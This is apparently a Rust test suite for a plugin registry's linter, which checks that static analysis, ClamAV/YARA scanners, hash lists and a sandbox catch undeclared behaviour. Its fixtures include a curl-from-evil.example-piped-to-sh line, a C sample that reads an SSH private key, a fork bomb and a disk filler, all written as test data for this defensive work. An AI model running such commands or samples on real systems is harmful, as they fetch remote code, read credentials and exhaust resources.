//! Issue 15 §1–3: what a plugin really does against what it declares. Real binaries
//! built here (gcc → ELF, x86_64-w64-mingw32-gcc → PE), real scanners (clamscan, yara)
//! with databases and rules the tests write, a real sandbox (bubblewrap + strace).

#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use trellis_index::analysis::AnalysisOptions;
use trellis_index::analysis::sandbox::SandboxOptions;
use trellis_index::analysis::scanners::{ClamavConfig, ScannerConfig, YaraConfig};
use trellis_index::lint::{LintOptions, LintReport, lint};
use trellis_schema::analysis::{Capability, SandboxExit, Verdict};
use trellis_schema::validate::Severity;
use trellis_tests::tools::require;

/// Compiles `source` (C) with `compiler` into `out`.
fn compile(compiler: &Path, source: &str, out: &Path, libs: &[&str]) {
    let dir = out.parent().unwrap();
    std::fs::create_dir_all(dir).unwrap();
    let src = dir.join(format!("{}.c", out.file_name().unwrap().to_string_lossy()));
    std::fs::write(&src, source).unwrap();
    let status = Command::new(compiler).arg("-O1").arg("-o").arg(out).arg(&src).args(libs).status().unwrap();
    assert!(status.success(), "{} failed", compiler.display());
    std::fs::remove_file(src).unwrap();
}

/// A valid plugin tree with `entry` for `platform` and `permissions` (`type:scope`).
fn tree(dir: &Path, platform: &str, entry: &str, permissions: &[&str]) -> PathBuf {
    let root = dir.join("plugin");
    trellis_tests::trees::write_skeleton(&root, "acme.probe", "1.0.0").unwrap();
    let mut meta: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(root.join("plugin.json")).unwrap()).unwrap();
    meta["platforms"] = serde_json::json!([platform]);
    meta["entry"] = serde_json::json!({ platform: entry });
    let mut perms =
        vec![serde_json::json!({"type": "filesystem", "scope": "plugin_directory", "reason": "Keep its data"})];
    for p in permissions {
        let (kind, scope) = p.split_once(':').unwrap();
        perms.push(serde_json::json!({"type": kind, "scope": scope, "reason": "The test needs it"}));
    }
    meta["permissions"] = perms.into();
    std::fs::write(root.join("plugin.json"), meta.to_string()).unwrap();
    std::fs::remove_file(root.join("bin/any/main.sh")).unwrap();
    root
}

fn errors(report: &LintReport) -> Vec<String> {
    report.problems.iter().filter(|p| p.severity == Severity::Error).map(ToString::to_string).collect()
}

fn warnings(report: &LintReport) -> Vec<String> {
    report.problems.iter().filter(|p| p.severity == Severity::Warning).map(ToString::to_string).collect()
}

fn capabilities(report: &LintReport) -> Vec<Capability> {
    report.analysis.as_ref().unwrap().capabilities().collect()
}

const ELF_NET_EXEC: &str = r#"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
int main(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(443);
    a.sin_addr.s_addr = inet_addr("93.184.216.34");
    connect(s, (struct sockaddr *)&a, sizeof a);
    char *args[] = {"/bin/true", 0};
    // Waited for: a sandbox's PID namespace ends with its first process, and a child
    // not yet scheduled when the parent returns would be killed before its execve.
    pid_t child = fork();
    if (child == 0) { execve("/bin/true", args, 0); _exit(127); }
    if (child > 0) waitpid(child, 0, 0);
    FILE *f = fopen("/home/victim/.ssh/id_rsa", "r");
    (void)f;
    puts("done");
    return 0;
}
"#;

const ELF_HELLO: &str = "#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; }\n";

#[test]
fn elf_importing_connect_and_execve_needs_network_and_process_permissions() {
    let Some(gcc) = require("gcc") else { return };
    let dir = tempfile::tempdir().unwrap();
    let root = tree(dir.path(), "linux-x86_64", "bin/linux-x86_64/probe", &[]);
    compile(&gcc, ELF_NET_EXEC, &root.join("bin/linux-x86_64/probe"), &[]);

    let report = lint(&root, &LintOptions::default()).unwrap();
    let errors = errors(&report);
    assert!(!report.is_clean());
    assert!(
        errors.iter().any(|e| e.starts_with("bin/linux-x86_64/probe:")
            && e.contains("connect")
            && e.contains("(network)")
            && e.contains("needs the permission network:internet")),
        "{errors:#?}"
    );
    assert!(
        errors.iter().any(|e| e.starts_with("bin/linux-x86_64/probe:")
            && (e.contains("execve") || e.contains("fork"))
            && e.contains("needs the permission process:own_binaries")),
        "{errors:#?}"
    );
    let found = capabilities(&report);
    assert!(found.contains(&Capability::Network) && found.contains(&Capability::ProcessCreation), "{found:?}");

    // Declared: clean, and the summary says which permission covers each capability.
    let dir2 = tempfile::tempdir().unwrap();
    let root =
        tree(dir2.path(), "linux-x86_64", "bin/linux-x86_64/probe", &["network:internet", "process:own_binaries"]);
    compile(&gcc, ELF_NET_EXEC, &root.join("bin/linux-x86_64/probe"), &[]);
    let report = lint(&root, &LintOptions::default()).unwrap();
    assert!(report.is_clean(), "{:#?}", report.problems);
    let analysis = report.analysis.unwrap();
    let network = analysis.capabilities.iter().find(|c| c.capability == Capability::Network).unwrap();
    assert_eq!(network.permission.as_deref(), Some("network:internet"));
    assert!(
        network.evidence.iter().any(|e| e.file == "bin/linux-x86_64/probe" && e.symbol.ends_with("connect")),
        "{network:?}"
    );
    assert!(analysis.map_version >= 1);
}

#[test]
fn the_package_is_analysed_like_the_tree() {
    let Some(gcc) = require("gcc") else { return };
    let dir = tempfile::tempdir().unwrap();
    let root = tree(dir.path(), "linux-x86_64", "bin/linux-x86_64/probe", &[]);
    compile(&gcc, ELF_NET_EXEC, &root.join("bin/linux-x86_64/probe"), &[]);
    let package = dir.path().join("probe.zip");
    trellis_index::pack::pack_dir(&root, &package).unwrap();
    let report = lint(&package, &LintOptions::default()).unwrap();
    let errors = errors(&report);
    assert!(
        errors.iter().any(|e| e.contains("bin/linux-x86_64/probe") && e.contains("network:internet")),
        "{errors:#?}"
    );
    let json = serde_json::to_value(&report).unwrap();
    assert!(
        json["analysis"]["capabilities"].as_array().unwrap().iter().any(|c| c["capability"] == "network"),
        "{json:#}"
    );
}

#[test]
fn declared_but_unused_permission_is_a_warning() {
    let Some(gcc) = require("gcc") else { return };
    let dir = tempfile::tempdir().unwrap();
    let root = tree(dir.path(), "linux-x86_64", "bin/linux-x86_64/hello", &["network:internet", "clipboard:read"]);
    compile(&gcc, ELF_HELLO, &root.join("bin/linux-x86_64/hello"), &[]);
    let report = lint(&root, &LintOptions::default()).unwrap();
    assert!(report.is_clean(), "{:#?}", report.problems);
    let warnings = warnings(&report);
    for unused in ["network:internet", "clipboard:read"] {
        assert!(
            warnings.iter().any(|w| w.starts_with("plugin.json: permissions[")
                && w.contains(&format!("{unused} is declared but no binary or script"))),
            "{unused}: {warnings:#?}"
        );
    }
}

const PE_NET_PROCESS: &str = r#"
#include <winsock2.h>
#include <windows.h>
int main(void) {
    WSADATA w;
    WSAStartup(MAKEWORD(2, 2), &w);
    SOCKET s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    connect(s, (struct sockaddr *)&a, sizeof a);
    STARTUPINFOW si = {sizeof si};
    PROCESS_INFORMATION pi;
    CreateProcessW(L"C:\\Windows\\notepad.exe", NULL, NULL, NULL, FALSE, 0, NULL, NULL, &si, &pi);
    return 0;
}
"#;

#[test]
fn pe_importing_connect_and_createprocessw_needs_network_and_process_permissions() {
    let Some(mingw) = require("x86_64-w64-mingw32-gcc") else { return };
    let dir = tempfile::tempdir().unwrap();
    let root = tree(dir.path(), "windows-x86_64", "bin/windows-x86_64/probe.exe", &[]);
    compile(&mingw, PE_NET_PROCESS, &root.join("bin/windows-x86_64/probe.exe"), &["-lws2_32"]);
    let report = lint(&root, &LintOptions::default()).unwrap();
    let errors = errors(&report);
    assert!(
        errors.iter().any(|e| e.starts_with("bin/windows-x86_64/probe.exe:")
            && e.to_ascii_lowercase().contains("ws2_32.dll!")
            && e.contains("needs the permission network:internet")),
        "{errors:#?}"
    );
    assert!(
        errors.iter().any(|e| e.contains("KERNEL32.dll!CreateProcessW") && e.contains("process:own_binaries")),
        "{errors:#?}"
    );
    // Exactly the two undeclared capabilities: the C runtime's own imports map to
    // nothing that needs a permission (dynamic code loading is only reported).
    assert_eq!(errors.len(), 2, "{errors:#?}");

    let dir2 = tempfile::tempdir().unwrap();
    let root = tree(dir2.path(), "windows-x86_64", "bin/windows-x86_64/probe.exe", &["network:lan", "process:any"]);
    compile(&mingw, PE_NET_PROCESS, &root.join("bin/windows-x86_64/probe.exe"), &["-lws2_32"]);
    let report = lint(&root, &LintOptions::default()).unwrap();
    assert!(report.is_clean(), "{:#?}", report.problems);
    let process = report
        .analysis
        .unwrap()
        .capabilities
        .into_iter()
        .find(|c| c.capability == Capability::ProcessCreation)
        .unwrap();
    assert_eq!(process.permission.as_deref(), Some("process:any"));
}

#[test]
fn truncated_lying_and_non_executable_binaries_are_findings_not_panics() {
    let Some(gcc) = require("gcc") else { return };
    let dir = tempfile::tempdir().unwrap();
    let root = tree(dir.path(), "linux-x86_64", "bin/linux-x86_64/entry", &[]);
    let good = dir.path().join("good");
    compile(&gcc, ELF_NET_EXEC, &good, &[]);
    let bytes = std::fs::read(&good).unwrap();
    let bin = root.join("bin/linux-x86_64");
    std::fs::create_dir_all(&bin).unwrap();
    // Truncated: headers promise tables past the end.
    std::fs::write(bin.join("truncated"), &bytes[..bytes.len() / 3]).unwrap();
    // Lying: section headers at an offset far past the end, and a huge count.
    let mut lying = bytes.clone();
    lying[0x28..0x30].copy_from_slice(&(u64::MAX / 2).to_le_bytes()); // e_shoff
    lying[0x3c..0x3e].copy_from_slice(&u16::MAX.to_le_bytes()); // e_shnum
    lying[0x20..0x28].copy_from_slice(&(u64::MAX - 8).to_le_bytes()); // e_phoff
    std::fs::write(bin.join("lying"), &lying).unwrap();
    // A PE header and nothing else.
    std::fs::write(bin.join("stub.dll"), b"MZ\x90\x00\x03\x00\x00\x00").unwrap();
    // The entry point is a text file.
    std::fs::write(bin.join("entry"), "just some words, not a program\n").unwrap();
    let report = lint(&root, &LintOptions::default()).unwrap();
    let errors = errors(&report);
    for (file, says) in [
        ("bin/linux-x86_64/truncated", "starts like a ELF binary but cannot be parsed"),
        ("bin/linux-x86_64/lying", "starts like a ELF binary but cannot be parsed"),
        ("bin/linux-x86_64/stub.dll", "starts like a PE binary but cannot be parsed"),
    ] {
        assert!(errors.iter().any(|e| e.starts_with(&format!("{file}:")) && e.contains(says)), "{file}: {errors:#?}");
    }
    // An entry point the analysis cannot read (a host-interpreted format, or junk) is
    // said, not refused: the sandboxed run and review decide.
    let warnings = warnings(&report);
    assert!(
        warnings.iter().any(|w| w.starts_with("bin/linux-x86_64/entry:") && w.contains("static analysis cannot tell what it does")),
        "{warnings:#?}"
    );
}

#[test]
fn scripts_are_matched_by_pattern_rules() {
    let dir = tempfile::tempdir().unwrap();
    let root = tree(dir.path(), "any", "bin/any/run.ps1", &[]);
    std::fs::write(
        root.join("bin/any/run.ps1"),
        "$page = Invoke-WebRequest -Uri https://example.com\nSet-Clipboard $page\n",
    )
    .unwrap();
    std::fs::write(root.join("bin/any/helper.py"), "import subprocess\nsubprocess.run(['ls'])\n").unwrap();
    std::fs::write(root.join("bin/any/sync.sh"), "#!/bin/sh\nrsync_dir=x\necho $rsync_dir\n").unwrap();
    let report = lint(&root, &LintOptions::default()).unwrap();
    let errors = errors(&report);
    assert!(
        errors.iter().any(|e| e.starts_with("bin/any/run.ps1:")
            && e.contains("invoke-webrequest")
            && e.contains("network:internet")),
        "{errors:#?}"
    );
    assert!(errors.iter().any(|e| e.starts_with("bin/any/run.ps1:") && e.contains("clipboard:write")), "{errors:#?}");
    assert!(
        errors.iter().any(|e| e.starts_with("bin/any/helper.py:") && e.contains("process:own_binaries")),
        "{errors:#?}"
    );
    assert!(!errors.iter().any(|e| e.starts_with("bin/any/sync.sh:")), "{errors:#?}");
}

/// The EICAR-like test file the scanner tests plant.
const BAD: &[u8] = b"TRELLIS-SCANNER-TEST-STRING-6a1f0c\n";

fn scanner_tree(dir: &Path) -> PathBuf {
    let root = tree(dir, "any", "bin/any/main.sh", &[]);
    std::fs::write(root.join("bin/any/main.sh"), "#!/bin/sh\necho hello\n").unwrap();
    std::fs::write(root.join("resources/payload.dat"), BAD).unwrap();
    root
}

#[test]
fn clamav_hash_signature_blocks_publication_with_its_name() {
    let Some(_) = require("clamscan") else { return };
    let dir = tempfile::tempdir().unwrap();
    let root = scanner_tree(dir.path());
    let db = dir.path().join("db");
    std::fs::create_dir_all(&db).unwrap();
    let sha = trellis_schema::Sha256::of(BAD).to_hex();
    std::fs::write(db.join("trellis-test.hsb"), format!("{sha}:{}:Trellis.Test.Payload\n", BAD.len())).unwrap();
    let scanners = ScannerConfig {
        clamav: Some(ClamavConfig { database: Some(db.clone()), required: true }),
        ..Default::default()
    };
    let options = LintOptions { analysis: AnalysisOptions { scanners, ..Default::default() }, ..Default::default() };
    let report = lint(&root, &options).unwrap();
    let errors = errors(&report);
    assert!(
        errors
            .iter()
            .any(|e| e.starts_with("resources/payload.dat:") && e.contains("clamav found Trellis.Test.Payload")),
        "{errors:#?}"
    );
    let verdict = &report.analysis.as_ref().unwrap().scanners[0];
    assert_eq!((verdict.scanner.as_str(), verdict.verdict), ("clamav", Verdict::Found));
    assert!(verdict.version.as_deref().is_some_and(|v| v.contains("ClamAV")), "{verdict:?}");

    // Without the file the same database says clean.
    std::fs::remove_file(root.join("resources/payload.dat")).unwrap();
    let report = lint(&root, &options).unwrap();
    assert!(report.is_clean(), "{:#?}", report.problems);
    assert_eq!(report.analysis.unwrap().scanners[0].verdict, Verdict::Clean);
}

#[test]
fn yara_string_rule_blocks_publication_with_the_rule_name() {
    let Some(_) = require("yara") else { return };
    let dir = tempfile::tempdir().unwrap();
    let root = scanner_tree(dir.path());
    let rules = dir.path().join("rules.yar");
    std::fs::write(
        &rules,
        "rule Trellis_Test_String { strings: $a = \"TRELLIS-SCANNER-TEST-STRING\" condition: $a }\n",
    )
    .unwrap();
    let scanners =
        ScannerConfig { yara: Some(YaraConfig { rules: vec![rules], required: true }), ..Default::default() };
    let report = lint(
        &root,
        &LintOptions { analysis: AnalysisOptions { scanners, ..Default::default() }, ..Default::default() },
    )
    .unwrap();
    let errors = errors(&report);
    assert!(
        errors.iter().any(|e| e.starts_with("resources/payload.dat:") && e.contains("yara found Trellis_Test_String")),
        "{errors:#?}"
    );
    assert_eq!(report.analysis.unwrap().scanners[0].verdict, Verdict::Found);
}

#[test]
fn known_bad_hash_list_blocks_publication_and_bad_lines_are_named() {
    let dir = tempfile::tempdir().unwrap();
    let root = scanner_tree(dir.path());
    let list = dir.path().join("known-bad.txt");
    let sha = trellis_schema::Sha256::of(BAD).to_hex();
    std::fs::write(&list, format!("# known bad\n{sha} Acme.Stealer\nnot-a-digest\n")).unwrap();
    let scanners = ScannerConfig { known_bad: Some(list.clone()), ..Default::default() };
    let report = lint(
        &root,
        &LintOptions { analysis: AnalysisOptions { scanners, ..Default::default() }, ..Default::default() },
    )
    .unwrap();
    let errors = errors(&report);
    assert!(
        errors
            .iter()
            .any(|e| e.starts_with("resources/payload.dat:") && e.contains("known-bad hash list (Acme.Stealer")),
        "{errors:#?}"
    );
    assert!(
        errors.iter().any(|e| e.starts_with(&format!("{}:3:", list.display())) && e.contains("not a SHA-256 digest")),
        "{errors:#?}"
    );
}

#[test]
fn a_configured_scanner_missing_here_is_a_warning_through_the_cli() {
    let dir = tempfile::tempdir().unwrap();
    let root = scanner_tree(dir.path());
    let registry = dir.path().join("registry");
    let init = Command::new(env!("CARGO_BIN_EXE_trellis-index"))
        .args(["init", "--name", "Test", "--base-url", "https://example.com/"])
        .arg(&registry)
        .output()
        .unwrap();
    assert!(init.status.success(), "{}", String::from_utf8_lossy(&init.stderr));
    let config_path = registry.join("trellis-registry.json");
    let mut config: serde_json::Value = serde_json::from_slice(&std::fs::read(&config_path).unwrap()).unwrap();
    config["scanners"] = serde_json::json!({"clamav": {}, "yara": {"rules": ["rules.yar"], "required": true}});
    std::fs::write(&config_path, config.to_string()).unwrap();
    // A PATH without scanners (but with the shell tools nothing here needs).
    let out = Command::new(env!("CARGO_BIN_EXE_trellis-index"))
        .env("PATH", dir.path())
        .args(["lint", "--json", "--registry"])
        .arg(&registry)
        .arg(&root)
        .output()
        .unwrap();
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let problems = report["problems"].as_array().unwrap();
    let find = |needle: &str| problems.iter().find(|p| p["message"].as_str().unwrap().contains(needle)).cloned();
    let clam = find("`clamscan` is not installed").expect("clamscan warning");
    assert_eq!(clam["severity"], "warning");
    let yara = find("`yara` is not installed").expect("yara error");
    assert_eq!(yara["severity"], "error");
    assert_eq!(out.status.code(), Some(1));
}

fn sandbox_tools() -> bool {
    ["gcc", "bwrap", "strace", "prlimit", "time"].iter().all(|t| require(t).is_some())
}

/// Sandboxed runs share one user's process budget (`nobody` when the tests run as
/// root): one at a time, so a fork bomb cannot starve another test's run.
static SANDBOX: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn sandboxed(root: &Path, timeout: Duration) -> LintReport {
    let _one_at_a_time = SANDBOX.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
    let sandbox = SandboxOptions { timeout, ..Default::default() };
    lint(
        root,
        &LintOptions {
            analysis: AnalysisOptions { sandbox: Some(sandbox), ..Default::default() },
            ..Default::default()
        },
    )
    .unwrap()
}

#[test]
fn sandbox_profiles_a_well_behaved_plugin() {
    if !sandbox_tools() {
        return;
    }
    let gcc = require("gcc").unwrap();
    let dir = tempfile::tempdir().unwrap();
    let root = tree(dir.path(), "linux-x86_64", "bin/linux-x86_64/hello", &[]);
    compile(&gcc, ELF_HELLO, &root.join("bin/linux-x86_64/hello"), &[]);
    let report = sandboxed(&root, Duration::from_secs(20));
    assert!(report.is_clean(), "{:#?}", report.problems);
    let profile = report.analysis.unwrap().sandbox.expect("a profile");
    assert_eq!(profile.exit, SandboxExit::Exited { code: 0 });
    assert_eq!(profile.processes, 1, "{profile:?}");
    assert!(profile.connections.is_empty() && profile.executed.is_empty(), "{profile:?}");
    assert!(profile.peak_memory_bytes > 100_000, "{profile:?}");
    assert_eq!(profile.platform, "linux-x86_64");
}

#[test]
fn sandbox_catches_connections_programs_and_files_the_plugin_did_not_declare() {
    if !sandbox_tools() {
        return;
    }
    let gcc = require("gcc").unwrap();
    let dir = tempfile::tempdir().unwrap();
    let root = tree(dir.path(), "linux-x86_64", "bin/linux-x86_64/probe", &[]);
    compile(&gcc, ELF_NET_EXEC, &root.join("bin/linux-x86_64/probe"), &[]);
    let report = sandboxed(&root, Duration::from_secs(20));
    let profile = report.analysis.as_ref().unwrap().sandbox.clone().expect("a profile");
    assert_eq!(profile.connections, ["inet 93.184.216.34:443"], "{profile:?}");
    assert_eq!(profile.executed, ["/bin/true"], "{profile:?}");
    assert!(profile.files_outside.iter().any(|f| f == "/home/victim/.ssh/id_rsa"), "{profile:?}");
    assert_eq!(profile.processes, 2, "{profile:?}");
    let errors = errors(&report);
    assert!(
        errors
            .iter()
            .any(|e| e
                .contains("in the sandbox, tried to connect to inet 93.184.216.34:443 without a network permission")),
        "{errors:#?}"
    );
    assert!(
        errors.iter().any(|e| e.contains("in the sandbox, started /bin/true without a permission to start programs")),
        "{errors:#?}"
    );
}

#[test]
fn sandbox_bounds_a_fork_bomb_a_disk_filler_and_a_program_that_never_exits() {
    if !sandbox_tools() {
        return;
    }
    let gcc = require("gcc").unwrap();
    let cases = [
        ("forkbomb", "#include <unistd.h>\nint main(void) { for (;;) fork(); }\n"),
        (
            "filler",
            "#include <stdio.h>\n#include <string.h>\nint main(void) { static char b[1 << 20]; memset(b, 'x', sizeof b); FILE *f = fopen(\"/tmp/fill\", \"w\"); for (;;) { if (fwrite(b, 1, sizeof b, f) != sizeof b) return 3; fflush(f); } }\n",
        ),
        ("forever", "#include <unistd.h>\nint main(void) { for (;;) sleep(1); }\n"),
    ];
    for (name, source) in cases {
        let dir = tempfile::tempdir().unwrap();
        let entry = format!("bin/linux-x86_64/{name}");
        let root = tree(dir.path(), "linux-x86_64", &entry, &["process:own_binaries"]);
        compile(&gcc, source, &root.join(&entry), &[]);
        let started = std::time::Instant::now();
        let report = sandboxed(&root, Duration::from_secs(4));
        let took = started.elapsed();
        assert!(took < Duration::from_secs(30), "{name}: the check took {took:?}");
        let profile = report.analysis.as_ref().unwrap().sandbox.clone().expect("a profile");
        let problems: Vec<String> = report.problems.iter().map(ToString::to_string).collect();
        match name {
            "forkbomb" => {
                assert!(
                    problems.iter().any(|p| p.contains("processes, the sandbox's limit: a fork bomb")),
                    "{problems:#?} {profile:?}"
                );
            }
            "filler" => {
                assert_eq!(profile.exit, SandboxExit::Signaled { signal: 25 }, "{profile:?}");
                assert!(
                    problems.iter().any(|p| p.contains("exceeded the file size limit") && p.contains("disk filler")),
                    "{problems:#?}"
                );
            }
            _ => {
                assert_eq!(profile.exit, SandboxExit::TimedOut, "{profile:?}");
                assert!(profile.wall_ms >= 4000 && profile.wall_ms < 10_000, "{profile:?}");
                assert!(problems.iter().any(|p| p.contains("still running after 4 s")), "{problems:#?}");
            }
        }
    }
}

mod build {
    use std::path::Path;

    use trellis_index::build::{Scope, build_registry};
    use trellis_index::fixture::{self, ReleaseSpec};
    use trellis_index::operator::{self, InitOptions};
    use trellis_index::registry::{Expiry, Registry};
    use trellis_schema::analysis::Verdict;
    use trellis_schema::index::IndexDoc;

    fn now() -> jiff::Timestamp {
        "2026-11-01T00:00:00Z".parse().unwrap()
    }

    fn registry(payload: &[u8], scanners: serde_json::Value) -> tempfile::TempDir {
        let dir = tempfile::tempdir().unwrap();
        let options = InitOptions {
            name: "Test Store".into(),
            base_url: "http://127.0.0.1/".into(),
            root_keys: 1,
            root_threshold: 1,
            bin_bits: 1,
            publisher_bin_bits: trellis_index::registry::DEFAULT_PUBLISHER_BIN_BITS,
            expiry: Expiry::default(),
            now: now(),
        };
        operator::init(dir.path(), &options).unwrap();
        let config_path = dir.path().join("trellis-registry.json");
        let mut config: serde_json::Value = serde_json::from_slice(&std::fs::read(&config_path).unwrap()).unwrap();
        config["scanners"] = scanners;
        std::fs::write(&config_path, config.to_string()).unwrap();
        let key = fixture::key(1);
        fixture::add_publisher(dir.path(), "acme", &key).unwrap();
        let mut spec = ReleaseSpec::new("acme.clock", "1.0.0");
        spec.payload = payload.to_vec();
        fixture::add_release(dir.path(), &spec, &key).unwrap();
        dir
    }

    fn build(registry: &Path, site: &Path) -> Result<(), String> {
        let registry = Registry::open(registry).map_err(|e| e.to_string())?;
        build_registry(&registry, site, Scope::Full, now()).map(|_| ()).map_err(|e| e.to_string())
    }

    /// The newest index doc of acme.clock: the site keeps earlier ones, and releases
    /// are only ever added.
    fn index_doc(site: &Path) -> IndexDoc {
        walkdir::WalkDir::new(site.join("targets/index"))
            .into_iter()
            .map(|e| e.unwrap())
            .filter(|e| e.file_name().to_string_lossy().ends_with(".acme.clock.json"))
            .map(|e| serde_json::from_slice::<IndexDoc>(&std::fs::read(e.path()).unwrap()).unwrap())
            .max_by_key(|doc| doc.releases.len())
            .unwrap()
    }

    #[test]
    fn the_index_entry_carries_the_analysis_summary() {
        let registry = registry(b"#!/bin/sh\necho tick\n", serde_json::json!({"known_bad": "known-bad.txt"}));
        std::fs::write(registry.path().join("known-bad.txt"), "# none yet\n").unwrap();
        let site = tempfile::tempdir().unwrap();
        build(registry.path(), site.path()).unwrap();
        let analysis = index_doc(site.path()).releases[0].analysis.clone().expect("an analysis summary");
        assert!(analysis.map_version >= 1);
        assert_eq!(analysis.scanners.len(), 1);
        assert_eq!(
            (analysis.scanners[0].scanner.as_str(), analysis.scanners[0].verdict),
            ("hash_list", Verdict::Clean)
        );
    }

    #[test]
    fn a_registry_that_asks_for_the_sandbox_publishes_the_profile() {
        if !super::sandbox_tools() {
            return;
        }
        let registry = registry(b"#!/bin/sh\necho tick\n", serde_json::json!({}));
        let config_path = registry.path().join("trellis-registry.json");
        let mut config: serde_json::Value = serde_json::from_slice(&std::fs::read(&config_path).unwrap()).unwrap();
        config.as_object_mut().unwrap().remove("scanners");
        config["sandbox"] = serde_json::json!({"timeout_seconds": 20});
        std::fs::write(&config_path, config.to_string()).unwrap();
        let site = tempfile::tempdir().unwrap();
        {
            let _one_at_a_time = super::SANDBOX.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
            build(registry.path(), site.path()).unwrap();
        }
        let profile = index_doc(site.path()).releases[0].analysis.clone().unwrap().sandbox.expect("a sandbox profile");
        assert_eq!(profile.exit, trellis_schema::analysis::SandboxExit::Exited { code: 0 }, "{profile:?}");
        assert!(profile.processes >= 1 && profile.peak_memory_bytes > 0, "{profile:?}");
        // The next build does not run the published release again: its profile is the
        // published one.
        let again = build_report(registry.path(), site.path()).unwrap();
        assert_eq!((again.releases, again.analysed), (1, 0));
        assert_eq!(index_doc(site.path()).releases[0].analysis.clone().unwrap().sandbox, Some(profile));
    }

    #[test]
    fn build_refuses_a_release_whose_script_uses_an_undeclared_capability() {
        let registry = registry(b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n", serde_json::json!({}));
        let site = tempfile::tempdir().unwrap();
        let error = build(registry.path(), site.path()).unwrap_err();
        assert!(
            error.contains("fails lint") && error.contains("bin/any/main.sh") && error.contains("network:internet"),
            "{error}"
        );
    }

    #[test]
    fn build_refuses_a_release_on_the_known_bad_list_naming_the_entry() {
        let payload = b"#!/bin/sh\necho a known sample\n";
        let registry = registry(payload, serde_json::json!({"known_bad": "known-bad.txt"}));
        let sha = trellis_schema::Sha256::of(payload).to_hex();
        std::fs::write(registry.path().join("known-bad.txt"), format!("{sha} Acme.Sample.Bad\n")).unwrap();
        let site = tempfile::tempdir().unwrap();
        let error = build(registry.path(), site.path()).unwrap_err();
        assert!(error.contains("bin/any/main.sh") && error.contains("Acme.Sample.Bad"), "{error}");
    }

    fn build_report(registry: &Path, site: &Path) -> Result<trellis_index::build::BuildReport, String> {
        let registry = Registry::open(registry).map_err(|e| e.to_string())?;
        build_registry(&registry, site, Scope::Full, now()).map_err(|e| e.to_string())
    }

    #[test]
    fn a_published_release_is_analysed_once_and_a_new_release_still_is() {
        let payload = b"#!/bin/sh\necho tick\n";
        let registry = registry(payload, serde_json::json!({"known_bad": "known-bad.txt"}));
        let known_bad = registry.path().join("known-bad.txt");
        std::fs::write(&known_bad, "# none yet\n").unwrap();
        let site = tempfile::tempdir().unwrap();
        let first = build_report(registry.path(), site.path()).unwrap();
        assert_eq!((first.releases, first.analysed), (1, 1));
        let published = index_doc(site.path()).releases[0].analysis.clone().expect("an analysis summary");

        // The hash list now names 1.0.0's script: a build that scanned 1.0.0 again would
        // refuse it. The published release keeps the analysis it was published with.
        let sha = trellis_schema::Sha256::of(payload).to_hex();
        std::fs::write(&known_bad, format!("{sha} Acme.Sample.Bad\n")).unwrap();
        let second = build_report(registry.path(), site.path()).unwrap();
        assert_eq!((second.releases, second.analysed), (1, 0));
        assert_eq!(index_doc(site.path()).releases[0].analysis.as_ref(), Some(&published));

        // A new release with that script is analysed, and refused.
        let key = fixture::key(1);
        let mut spec = ReleaseSpec::new("acme.clock", "1.1.0");
        spec.payload = payload.to_vec();
        fixture::add_release(registry.path(), &spec, &key).unwrap();
        let error = build_report(registry.path(), site.path()).unwrap_err();
        assert!(error.contains("1.1.0") && error.contains("Acme.Sample.Bad"), "{error}");

        // A clean new release is analysed; the published one still is not.
        let mut spec = ReleaseSpec::new("acme.clock", "1.1.0");
        spec.payload = b"#!/bin/sh\necho tock\n".to_vec();
        fixture::add_release(registry.path(), &spec, &key).unwrap();
        let third = build_report(registry.path(), site.path()).unwrap();
        assert_eq!((third.releases, third.analysed), (2, 1));
        let doc = index_doc(site.path());
        assert_eq!(doc.releases[0].analysis.as_ref(), Some(&published));
        let new = doc.releases[1].analysis.as_ref().expect("the new release's analysis");
        assert_eq!(new.scanners[0].verdict, Verdict::Clean);
    }
}
